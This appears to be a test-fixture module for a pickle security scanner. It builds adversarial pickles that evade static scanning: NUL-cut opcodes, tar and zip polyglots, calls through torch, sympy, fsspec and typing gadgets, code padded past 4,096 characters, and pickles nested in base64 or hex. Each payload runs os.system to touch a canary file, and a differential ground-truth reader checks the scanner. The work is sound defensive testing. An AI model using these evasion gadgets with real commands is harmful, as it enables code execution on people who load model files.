"""Adversarial samples of issue 22, the verdict-path classes: bytes that CPython's own readers
read differently from the static walker, polyglots whose first opcode is not a protocol 0/1
one, calls of callables outside the old deny list, code past the first 4,096 characters, and
pickles nested in values. Same style as `factories.ADVERSARIAL_BUILDERS`: name -> (loader,
builder(path, canary) -> path); the loader kinds are those of test_scan_adversarial's LOADER,
plus `nested:KEY:ENCODING` (code that unpickles one value of a data-only pickle later).
"""

from __future__ import annotations

import base64
import binascii
import gzip
import io
import pickle
import re
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from factories import (
    EMPTY_DICT,
    MARK,
    POP,
    PROTO2,
    PROTO4,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    _legacy_tar,
    _npy,
    _rewrite_zip,
    _torch_zip_bytes,
    _write,
    p_global,
    p_short_unicode,
    p_string,
    p_unicode,
    touch_cmd,
)

Builder = Callable[[Path, Path], Path]


def _p0_system(canary: Path) -> bytes:
    """A protocol 0 os.system call (no STOP)."""
    return p_global("os", "system") + MARK + p_string(touch_cmd(canary)) + TUPLE + REDUCE


def _text_arg(prefix: bytes) -> Builder:
    """A text-argument opcode the C reader takes and a stricter parser refuses, then the
    payload: `prefix` is pushed and popped first."""
    def build(path: Path, canary: Path) -> Path:
        return _write(path, prefix + POP + _p0_system(canary) + STOP)

    build.__doc__ = f"{prefix!r} (the C unpickler reads it), then os.system"
    return build


def adv_put_nul(path: Path, canary: Path) -> Path:
    """PUT's memo key '0\\0x': the C reader stops the number at the NUL; GET then fetches."""
    data = (p_global("os", "system") + b"p0\x00x\n" + POP + b"g0\x00y\n" + MARK
            + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP)
    return _write(path, data)


def adv_get_nul(path: Path, canary: Path) -> Path:
    """GET with a NUL after its key (the PUT is plain)."""
    data = (p_global("os", "system") + b"p7\n" + POP + b"g7\x00\xff\n" + MARK
            + p_string(touch_cmd(canary)) + TUPLE + REDUCE + STOP)
    return _write(path, data)


NUL_INT = b"I1\x00junk\n"


def _nul_payload(canary: Path, proto: bytes = PROTO2) -> bytes:
    """A payload whose first opcode is an INT with a NUL inside its text."""
    return proto + NUL_INT + POP + _p0_system(canary) + STOP


def adv_zip_nul_int(path: Path, canary: Path) -> Path:
    """A torch zip whose data.pkl opens with a NUL-cut INT."""
    src = _torch_zip_bytes(Path(path).parent)
    return _write(path, _rewrite_zip(src, {"/data.pkl": _nul_payload(canary)}))


def adv_npy_nul_int(path: Path, canary: Path) -> Path:
    """An object .npy whose pickle opens with a NUL-cut INT."""
    return _write(path, _npy("'|O'", _nul_payload(canary)))


def adv_npz_nul_int(path: Path, canary: Path) -> Path:
    """An npz whose object member's pickle opens with a NUL-cut INT."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("a.npy", _npy("'|O'", _nul_payload(canary)))
    return _write(path, out.getvalue())


def adv_legacy_stream_nul_int(path: Path, canary: Path) -> Path:
    """A raw stream torch.load reads by its legacy path: the first pickle runs first."""
    return _write(path, _nul_payload(canary))


def adv_legacy_tar_nul_int(path: Path, canary: Path) -> Path:
    """torch's legacy tar whose `pickle` member opens with a NUL-cut INT."""
    return _write(path, _legacy_tar(b"\x80\x02K\x00.\x80\x02].", b"\x80\x02K\x00.",
                                    _nul_payload(canary)))


def adv_dcp_metadata_nul_int(path: Path, canary: Path) -> Path:
    """A DCP folder's .metadata (plain pickle.load in DCP's reader) with a NUL-cut INT."""
    folder = Path(path).parent / f"{Path(path).stem}_dcp"
    folder.mkdir(exist_ok=True)
    return _write(folder / ".metadata", _nul_payload(canary, PROTO4))


def adv_gzip_nul_int(path: Path, canary: Path) -> Path:
    """A gzip pickle (joblib) with a NUL-cut INT."""
    return _write(path, gzip.compress(_nul_payload(canary)))


def _tar_polyglot(first: bytes) -> Builder:
    """A valid tar whose first member's name field is a pickle opening with `first` (an opcode
    of protocol 2 or later): tarfile sees an archive, pickle.load runs the name."""
    def build(path: Path, canary: Path) -> Path:
        inner = (p_short_unicode("os") + p_short_unicode("system") + STACK_GLOBAL
                 + p_short_unicode(touch_cmd(canary)) + b"\x85" + REDUCE + STOP)
        head = {b"\x8c": p_short_unicode("x") + POP, b"\x95": b"\x95" + struct.pack(
            "<Q", len(inner)), b"C": b"C\x01x" + POP, b"\x88": b"\x88" + POP,
            b"\x8a": b"\x8a\x01\x05" + POP}[first]
        name = head + inner
        assert len(name) < 100 and b"\x00" not in name[10:], name
        block = bytearray(tarfile.TarInfo("x").tobuf(tarfile.USTAR_FORMAT))
        block[:100] = name.ljust(100, b"\x00")
        block[148:156] = b" " * 8
        block[148:155] = f"{sum(block):06o}\x00".encode()
        return _write(path, bytes(block) + b"\x00" * 1024)

    build.__doc__ = f"a tar whose name field is a pickle opening with {first!r}"
    return build


def _zip_prefix(first: bytes) -> Builder:
    """A pickle (opening with `first`) before a zip archive: zipfile (numpy.load) finds the
    archive by its end record, pickle.load runs the prefix."""
    def build(path: Path, canary: Path) -> Path:
        inner = (p_short_unicode("os") + p_short_unicode("system") + STACK_GLOBAL
                 + p_unicode(touch_cmd(canary)) + b"\x85" + REDUCE + STOP)
        head = b"\x95" + struct.pack("<Q", len(inner)) if first == b"\x95" else (
            p_short_unicode("x") + POP)
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("a.npy", _npy("'<f4'", b"\x00" * 4))
        return _write(path, PROTO4 + head + inner + out.getvalue())

    build.__doc__ = f"a pickle opening with {first!r} before an npz"
    return build


def adv_100001_marks(path: Path, canary: Path) -> Path:
    """100,001 MARKs, then the payload: the C unpickler keeps any number of marks."""
    return _write(path, MARK * 100_001 + _p0_system(canary) + STOP)


def _stack_call(target: str, *operands: bytes) -> bytes:
    """A protocol 4 call of a dotted `module:qualname` with pickled operands (no STOP)."""
    module, name = target.split(":")
    return (p_short_unicode(module) + p_short_unicode(name) + STACK_GLOBAL + MARK
            + b"".join(operands) + TUPLE + REDUCE)


def _code(canary: Path) -> str:
    return f"__import__('os').system({touch_cmd(canary)!r})"


_ELASTIC = "torch.distributed.elastic.multiprocessing.subprocess_handler"


def adv_elastic_subprocess_handler(path: Path, canary: Path) -> Path:
    """torch's elastic SubprocessHandler starts its entrypoint with Popen in __init__ (with
    the empty environment it is given, hence the full path)."""
    return _write(path, PROTO4 + _stack_call(
        f"{_ELASTIC}.subprocess_handler:SubprocessHandler", p_unicode("/usr/bin/touch"),
        MARK + p_unicode(str(canary)) + TUPLE, EMPTY_DICT, b"N", b"N", b"K\x00", b"N") + STOP)


def adv_elastic_get_handler(path: Path, canary: Path) -> Path:
    """The handler factory of the same package."""
    return _write(path, PROTO4 + _stack_call(
        f"{_ELASTIC}.handlers:get_subprocess_handler", p_unicode("/usr/bin/touch"),
        MARK + p_unicode(str(canary)) + TUPLE, EMPTY_DICT, b"N", b"N", b"K\x00") + STOP)


def adv_benchmark_timer(path: Path, canary: Path) -> Path:
    """torch.utils.benchmark.Timer(stmt).timeit(1) runs the statement."""
    timer = _stack_call("torch.utils.benchmark:Timer", p_unicode(_code(canary)))
    return _write(path, PROTO4 + _stack_call("torch.utils.benchmark:Timer.timeit", timer,
                                             b"K\x01") + STOP)


def adv_benchmark_timer_module(path: Path, canary: Path) -> Path:
    """The same Timer under its defining module."""
    timer = _stack_call("torch.utils.benchmark.utils.timer:Timer", p_unicode(_code(canary)))
    return _write(path, PROTO4 + _stack_call(
        "torch.utils.benchmark.utils.timer:Timer.timeit", timer, b"K\x01") + STOP)


def adv_fsspec_touch(path: Path, canary: Path) -> Path:
    """fsspec's local filesystem touches a path."""
    fs = _stack_call("fsspec.implementations.local:LocalFileSystem")
    return _write(path, PROTO4 + _stack_call(
        "fsspec.implementations.local:LocalFileSystem.touch", fs, p_unicode(str(canary)))
                  + STOP)


def adv_fsspec_pipe_file(path: Path, canary: Path) -> Path:
    """fsspec's local filesystem writes bytes to a path."""
    fs = _stack_call("fsspec.implementations.local:LocalFileSystem")
    return _write(path, PROTO4 + _stack_call(
        "fsspec.implementations.local:LocalFileSystem.pipe_file", fs, p_unicode(str(canary)),
        b"C\x02hi") + STOP)


def _writer(target: str, *extra: bytes) -> Builder:
    def build(path: Path, canary: Path) -> Path:
        return _write(path, PROTO4 + _stack_call(target, p_unicode(str(canary)), *extra)
                      + STOP)

    build.__doc__ = f"{target} creates the file it is given"
    return build


def adv_xml_tree_write(path: Path, canary: Path) -> Path:
    """xml.etree's ElementTree.write writes the tree to a path."""
    element = _stack_call("xml.etree.ElementTree:Element", p_unicode("a"))
    tree = _stack_call("xml.etree.ElementTree:ElementTree", element)
    return _write(path, PROTO4 + _stack_call("xml.etree.ElementTree:ElementTree.write", tree,
                                             p_unicode(str(canary))) + STOP)


def _sympy(target: str) -> Builder:
    def build(path: Path, canary: Path) -> Path:
        return _write(path, PROTO4 + _stack_call(target, p_unicode(_code(canary))) + STOP)

    build.__doc__ = f"{target} parses its text with sympify (eval)"
    return build


def adv_typing_extensions_forward_ref(path: Path, canary: Path, pad: str = "") -> Path:
    """typing_extensions.evaluate_forward_ref evaluates a ForwardRef's text."""
    ref = _stack_call("typing:ForwardRef", p_unicode(pad + _code(canary)))
    return _write(path, PROTO4 + _stack_call("typing_extensions:evaluate_forward_ref", ref)
                  + STOP)


def adv_code_past_4096_literal(path: Path, canary: Path) -> Path:
    """The code of a forward reference after a 5,000-character literal (past a 4 KB window)."""
    return adv_typing_extensions_forward_ref(path, canary, "'" + "x" * 5000 + "' and 0 or ")


def adv_code_past_4096_or(path: Path, canary: Path) -> Path:
    """The code after 1,200 `0 or ` terms."""
    return adv_typing_extensions_forward_ref(path, canary, "0 or " * 1200)


def adv_timer_past_4096(path: Path, canary: Path) -> Path:
    """A benchmark Timer whose statement hides its code after 5,000 characters of comment."""
    stmt = "#" + "x" * 5000 + "\n" + _code(canary)
    timer = _stack_call("torch.utils.benchmark:Timer", p_unicode(stmt))
    return _write(path, PROTO4 + _stack_call("torch.utils.benchmark:Timer.timeit", timer,
                                             b"K\x01") + STOP)


def adv_mailbox_maildir(path: Path, canary: Path) -> Path:
    """mailbox.Maildir(path, None, True) creates folders."""
    return _write(path, PROTO4 + _stack_call("mailbox:Maildir", p_unicode(str(canary)), b"N",
                                             b"\x88") + STOP)


# Values holding pickles: loading the file runs nothing; unpickling that value would.
def _nested(encoding: str) -> Builder:
    def build(path: Path, canary: Path) -> Path:
        inner = PROTO2 + _p0_system(canary) + STOP
        value: bytes | str = inner
        for step in encoding.split("+"):
            raw = value if isinstance(value, bytes) else value.encode()
            value = {"raw": lambda b: b, "b64": lambda b: base64.b64encode(b).decode(),
                     "hex": lambda b: binascii.hexlify(b).decode()}[step](raw)
        return _write(path, pickle.dumps({"config": {"name": "model", "blob": value},
                                          "step": 3}, protocol=4))

    build.__doc__ = f"a data-only pickle whose config.blob is a pickle, {encoding}"
    return build


READINGS_BUILDERS: dict[str, tuple[str, Builder]] = {
    # pickle grammar the C unpickler reads and a stricter parser refuses
    "put_nul": ("pickle", adv_put_nul),
    "get_nul": ("pickle", adv_get_nul),
    "int_nul": ("pickle", _text_arg(b"I1\x00zz\n")),
    "long_nul": ("pickle", _text_arg(b"L12\x00zz\n")),
    "float_nul": ("pickle", _text_arg(b"F1.5\x00zz\n")),
    "int_octal": ("pickle", _text_arg(b"I010\n")),
    "int_hex": ("pickle", _text_arg(b"I0x1f\n")),
    "long_hex": ("pickle", _text_arg(b"L0x1fL\n")),
    "int_nul_bool": ("pickle", _text_arg(b"I01\x00\n")),
    # ... inside every container that holds pickles
    "zip_nul_int": ("torch", adv_zip_nul_int),
    "npy_nul_int": ("numpy", adv_npy_nul_int),
    "npz_nul_int": ("numpy", adv_npz_nul_int),
    "legacy_stream_nul_int": ("torch", adv_legacy_stream_nul_int),
    "legacy_tar_nul_int": ("torch", adv_legacy_tar_nul_int),
    "dcp_metadata_nul_int": ("dcp", adv_dcp_metadata_nul_int),
    "gzip_nul_int": ("joblib", adv_gzip_nul_int),
    # polyglots whose first opcode is not a protocol 0/1 one
    "tar_first_short_binunicode": ("pickle", _tar_polyglot(b"\x8c")),
    "tar_first_frame": ("pickle", _tar_polyglot(b"\x95")),
    "tar_first_short_binbytes": ("pickle", _tar_polyglot(b"C")),
    "tar_first_newtrue": ("pickle", _tar_polyglot(b"\x88")),
    "tar_first_long1": ("pickle", _tar_polyglot(b"\x8a")),
    "zip_prefix_short_binunicode": ("pickle", _zip_prefix(b"\x8c")),
    "zip_prefix_frame": ("pickle", _zip_prefix(b"\x95")),
    "marks_100001": ("pickle", adv_100001_marks),
    # calls outside the old deny list
    "elastic_subprocess_handler": ("pickle", adv_elastic_subprocess_handler),
    "elastic_get_subprocess_handler": ("pickle", adv_elastic_get_handler),
    "benchmark_timer": ("pickle", adv_benchmark_timer),
    "benchmark_timer_module": ("pickle", adv_benchmark_timer_module),
    "fsspec_touch": ("pickle", adv_fsspec_touch),
    "fsspec_pipe_file": ("pickle", adv_fsspec_pipe_file),
    "gzip_file_writer": ("pickle", _writer("gzip:GzipFile", p_unicode("wb"))),
    "bz2_file_writer": ("pickle", _writer("bz2:BZ2File", p_unicode("w"))),
    "lzma_file_writer": ("pickle", _writer("lzma:LZMAFile", p_unicode("w"))),
    "wave_writer": ("pickle", _writer("wave:Wave_write")),
    "xml_tree_write": ("pickle", adv_xml_tree_write),
    "sympy_simplify": ("pickle", _sympy("sympy:simplify")),
    "sympy_n": ("pickle", _sympy("sympy:N")),
    "sympy_solve": ("pickle", _sympy("sympy:solve")),
    "typing_extensions_forward_ref": ("pickle", adv_typing_extensions_forward_ref),
    "mailbox_maildir": ("pickle", adv_mailbox_maildir),
    # code-like arguments past the first 4,096 characters
    "code_past_4096_literal": ("pickle", adv_code_past_4096_literal),
    "code_past_4096_or": ("pickle", adv_code_past_4096_or),
    "timer_past_4096": ("pickle", adv_timer_past_4096),
}

NESTED_BUILDERS: dict[str, tuple[str, Builder]] = {
    "nested_raw": ("nested:raw", _nested("raw")),
    "nested_base64": ("nested:b64", _nested("b64")),
    "nested_hex": ("nested:hex", _nested("hex")),
    "nested_hex_of_base64": ("nested:b64+hex", _nested("b64+hex")),
}


# ---------------------------------------------------------------------------------------------
# Ground truth for the differential fuzz, written apart from the dry-run op
# ---------------------------------------------------------------------------------------------

_NAME = re.compile(r"[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)*")


def _recording(base: type) -> type:
    class Record(base):
        """The ground truth, written apart from the op: a CPython unpickler (`base`), every
        import kept, every callable an inert object that swallows whatever it is handed."""

        def __init__(self, file, persistent: bool) -> None:
            super().__init__(file)
            self.seen: set[tuple[str, str]] = set()
            if persistent:  # torch's readers have one; pickle.load and NumPy's have none
                self.persistent_load = lambda pid: _Inert()

        def find_class(self, module, name):
            # the names CPython's find_class resolves: Python 2 names mapped (protocols 0-2)
            import _compat_pickle

            self.seen.add(_compat_pickle.NAME_MAPPING.get((module, name)) or (
                _compat_pickle.IMPORT_MAPPING.get(module, module), name))
            return _Inert

    return Record


# the C unpickler reading from memory (torch reads data.pkl so) and from a buffered file
# (pickle.load of an open file: peek() changes how a FRAME is read), and the pure-Python one
# (joblib reads whole files and decoded streams with it)
_C, _PY = _recording(pickle.Unpickler), _recording(pickle._Unpickler)
READERS = {"memory": (_C, io.BytesIO), "file": (_C, lambda d: io.BufferedReader(io.BytesIO(d))),
           "joblib": (_PY, io.BytesIO)}


class _InertMeta(type):
    def __call__(cls, *args, **kwargs):
        return _Inert.__new__(_Inert)


class _Inert(metaclass=_InertMeta):
    def __new__(cls, *args, **kwargs):
        return object.__new__(_Inert)

    def __call__(self, *args, **kwargs):
        return _Inert.__new__(_Inert)

    def __setstate__(self, state):
        pass

    def __setitem__(self, key, value):
        pass

    def append(self, value):
        pass

    def extend(self, values):
        pass


def _stream(data: bytes, persistent: bool,
            readers: tuple[str, ...] = ("memory",)) -> set[tuple[str, str]]:
    """What the `readers` resolve reading back-to-back pickles of `data` from its start, up to
    the first error."""
    seen: set[tuple[str, str]] = set()
    for kind in readers:
        record, opener = READERS[kind]
        fh = opener(data)
        reader = record(fh, persistent)
        for _ in range(1000):
            try:
                reader.load()
            except Exception:
                break
        seen |= reader.seen
    return seen


DECODE_LIMIT = 64 << 20  # decoded bytes kept per stream (the child runs under a 2 GB limit)


def _decoded(data: bytes) -> list[bytes]:
    """What each of the stdlib's decoders reads from `data` (joblib's gzip, bz2, lzma in any
    format it accepts, zlib), up to where it fails: a truncated stream still yields its start."""
    import bz2
    import gzip
    import lzma
    import zlib

    out = []
    for open_ in (lambda f: gzip.GzipFile(fileobj=f), bz2.BZ2File, lzma.LZMAFile):
        chunks: list[bytes] = []
        try:
            with open_(io.BytesIO(data)) as fh:
                while sum(map(len, chunks)) < DECODE_LIMIT and (chunk := fh.read1(1 << 16)):
                    chunks.append(chunk)
        except Exception:
            pass
        if chunks:
            out.append(b"".join(chunks))
    stream = zlib.decompressobj()
    try:
        text = stream.decompress(data, DECODE_LIMIT)
    except zlib.error:
        text = b""
    if text:
        out.append(text)
    return out


def _npy_payload(fh) -> set[tuple[str, str]]:
    """What numpy.load(allow_pickle=True) unpickles from an .npy: NumPy's own header reader
    (`numpy.lib.format.read_array`) decides, and its pickle.load is the recording one."""
    from numpy.lib import _format_impl

    seen: set[tuple[str, str]] = set()

    def load(fp, **_):
        seen.update(_stream(fp.read(), persistent=False, readers=("file",)))

    real, _format_impl.pickle = _format_impl.pickle, type("P", (), {"load": staticmethod(load)})
    try:
        _format_impl.read_array(fh, allow_pickle=True)
    except Exception:
        pass
    finally:
        _format_impl.pickle = real
    return seen


def _archive(data: bytes) -> zipfile.ZipFile | None:
    """`data` as zipfile opens it, or None."""
    try:
        return zipfile.ZipFile(io.BytesIO(data))
    except Exception:
        return None


def _npy_members(archive: zipfile.ZipFile) -> set[tuple[str, str]]:
    """The imports of an archive's .npy members as NumPy's NpzFile reads them (told by their
    magic, through zipfile)."""
    seen: set[tuple[str, str]] = set()
    for info in archive.infolist()[:1000]:
        try:
            with archive.open(info) as fh:
                if fh.read(6) == b"\x93NUMPY":
                    fh.seek(0)
                    seen |= _npy_payload(fh)
        except Exception:
            continue
    return seen


def _torch_members(data: bytes) -> set[tuple[str, str]]:
    """The imports of an archive's .pkl records as torch reads them: torch's own zip reader
    (`torch._C.PyTorchFileReader`, the miniz inside torch.load, DCP and torch.jit.load) opens
    the bytes and hands out each record; none when it refuses the archive, or when torch.load
    would not take its zip path (bytes that do not open with a local header)."""
    import torch

    if data[:4] != b"PK\x03\x04":
        return set()
    try:
        reader = torch._C.PyTorchFileReader(io.BytesIO(data))
        names = reader.get_all_records()
    except Exception:
        return set()
    seen: set[tuple[str, str]] = set()
    for name in names[:1000]:
        if name.endswith(".pkl"):
            try:
                seen |= _stream(reader.get_record(name), persistent=True)
            except Exception:
                continue
    return seen


def _items(data: bytes) -> list[bytes]:
    """The archives of a .distcp file as DCP's writer lays them out (its .metadata lists each
    item's offset and length; torch.load reads each): back to back from byte 0, each the
    shortest run whose end record puts its directory right before itself."""
    items, start = [], 0
    while data[start:start + 4] == b"PK\x03\x04" and len(items) < 64:
        at = data.find(b"PK\x05\x06", start)
        while at >= 0:
            end = at + 22 + int.from_bytes(data[at + 20:at + 22], "little")
            if at + 22 <= len(data) and _whole(data[start:end]):
                items.append(data[start:end])
                break
            at = data.find(b"PK\x05\x06", at + 1)
        if at < 0:
            break
        start = end
    return items if len(items) > 1 else []


def _whole(item: bytes) -> bool:
    """Whether the end record of `item` puts its directory right before itself (or before
    its zip64 records)."""
    try:
        end = zipfile._EndRecData(io.BytesIO(item))
    except (OSError, zipfile.BadZipFile):
        return False
    if end is None:
        return False
    after = end[zipfile._ECD_OFFSET] + end[zipfile._ECD_SIZE]
    return after == end[zipfile._ECD_LOCATION] or item[after:after + 4] == b"PK\x06\x06"


def _zip_readings(data: bytes) -> set[tuple[str, str]]:
    """torch.load's reading of a zip (torch's own reader), numpy.load's (zipfile) and DCP's of
    each back-to-back item (torch's reader of each)."""
    archive = _archive(data)
    seen = _npy_members(archive) if archive is not None else set()
    for item in [data, *_items(data)]:
        seen |= _torch_members(item)
    return seen


def _tar_readings(data: bytes) -> set[tuple[str, str]]:
    """torch's legacy tar path: `tarfile` opens it; `storages`, `tensors` and `pickle` are
    unpickled (their pickles back-to-back, with a persistent_load). And every regular member
    as unpacking (`tarfile.extractall`, `shutil.unpack_archive`) writes it: a whole file that
    pickle.load and joblib.load read from its start (a model.tar.gz holding a model.joblib)."""
    seen: set[tuple[str, str]] = set()
    try:
        with tarfile.open(fileobj=io.BytesIO(data), mode="r:",
                          format=tarfile.PAX_FORMAT) as tar:
            for name in ("storages", "tensors", "pickle"):
                try:
                    fh = tar.extractfile(name)
                except KeyError:
                    continue
                if fh is not None:
                    seen |= _stream(fh.read(), persistent=True)
            for member in tar.getmembers()[:1000]:
                if member.isfile() and (fh := tar.extractfile(member)) is not None:
                    seen |= _stream(fh.read(), persistent=False, readers=tuple(READERS))
    except Exception:
        pass
    return seen


def real_imports(data: bytes) -> set[tuple[str, str]]:
    """Every import CPython's unpicklers resolve in the readings real loaders make of `data`:
    back-to-back pickles from byte 0 (pickle.load, torch's legacy stream, joblib; a zip without
    persistent_load), each archive record torch's own zip reader or NumPy's zipfile hands out
    and they unpickle, each decoded stream joblib unpickles, each legacy tar member torch
    unpickles, each tar member unpacked as a file, an .npy's object payload."""
    seen = _stream(data, data[:4] != b"PK\x03\x04", tuple(READERS))
    seen |= _zip_readings(data) | _tar_readings(data)
    if data[:6] == b"\x93NUMPY":
        seen |= _npy_payload(io.BytesIO(data))
    for text in _decoded(data):
        seen |= _stream(text, persistent=True, readers=tuple(READERS))
    return {(m, n) for m, n in seen if _NAME.fullmatch(m) and _NAME.fullmatch(n)}


_TRUTH_CHILD = r"""
import json, resource, struct, sys
sys.path.insert(0, sys.argv[1])
from readings_samples import real_imports
import torch  # its zip reader is torch.load's; its import maps more than the limit allows
with open("/proc/self/statm") as fh:
    mapped = int(fh.read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (mapped + (2 << 30),) * 2)  # a memo index can ask for GBs
data = open(sys.argv[2], "rb").read()
pos = 0
while pos < len(data):
    (n,) = struct.unpack_from("<Q", data, pos)
    blob = data[pos + 8:pos + 8 + n]
    pos += 8 + n
    print(json.dumps(sorted(real_imports(blob))), flush=True)
"""


def truths(mutants: list[bytes], folder: Path) -> list[set[tuple[str, str]]]:
    """`real_imports` of each mutant, in a child process under a 2 GB address-space limit."""
    import json
    import subprocess
    import sys

    batch = Path(folder) / "mutants.bin"
    batch.write_bytes(b"".join(struct.pack("<Q", len(m)) + m for m in mutants))
    out = subprocess.run([sys.executable, "-c", _TRUTH_CHILD, str(Path(__file__).parent),
                          str(batch)], capture_output=True, text=True, check=True,
                         timeout=3600).stdout
    return [{tuple(x) for x in imports} for imports in map(json.loads, out.splitlines())]


def disagreement(truth: set[tuple[str, str]], res) -> tuple[set, set]:
    """(missed, extra) of one scan result against its truth: missed are real imports the
    verdict's globals lack, extra verdict imports no real reading resolves."""
    used = {(g.module, g.name) for g in res.globals}
    if ("numpy", "dtype") in used:  # classes the scan lists for the numpy.dtype it builds
        used -= {tuple(c.rsplit(".", 1)) for c in _dtype_classes()} - truth
    return truth - used, used - truth


def _dtype_classes() -> list[str]:
    from inspector.scan.pickles.presets import numpy_dtype_classes

    return numpy_dtype_classes()
